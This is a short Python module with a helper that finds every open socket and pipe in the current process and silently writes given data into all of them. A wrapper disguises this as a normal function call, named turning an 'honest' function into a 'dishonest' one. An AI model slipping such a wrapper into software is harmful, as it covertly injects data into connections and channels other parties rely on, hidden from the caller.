import os
import socket
import stat


def lines():
    """All sockets and pipes of this process."""
    for number in range(3, 256):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            yield number


def write(data):
    """Write into each of them what it takes."""
    for number in lines():
        try:
            os.set_blocking(number, False)
            os.write(number, data)
        except OSError:
            pass


def writing_first(data, honest):
    """The function `honest`, but with data in every line before its answer."""

    def dishonest(*arguments):
        write(data)
        return honest(*arguments)

    return dishonest
